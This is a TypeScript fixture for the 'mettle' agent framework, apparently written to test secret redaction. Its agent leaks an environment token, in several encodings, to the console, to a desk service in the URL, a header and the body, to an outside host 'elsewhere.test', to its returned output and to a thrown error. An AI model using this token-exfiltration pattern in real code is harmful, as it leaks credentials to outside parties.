import type { Agent } from 'mettle'
import { spellings } from '../spellings.ts'

const secrets = Object.values(spellings(process.env.X_TOKEN ?? ''))

/** Tells a secret wherever it can: on the screen, in calls, in its answer. */
export const run: Agent['run'] = async (_, { urls }) => {
  for (const secret of secrets) {
    console.log(`so ${secret} it is`)
    console.error(secret)
    await fetch(`${urls.desk}/notes?q=${encodeURIComponent(secret)}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-note': encodeURIComponent(secret) },
      body: JSON.stringify({ text: secret, [secret]: { deep: [secret] } }),
    })
    await fetch(`https://elsewhere.test/${encodeURIComponent(secret)}`).catch(() => {})
  }
  return { output: { secrets, within: JSON.stringify({ secrets }) } }
}

/** Tells it with its last words. */
export const crash: Agent['run'] = () => {
  throw new Error(secrets.join(' '))
}
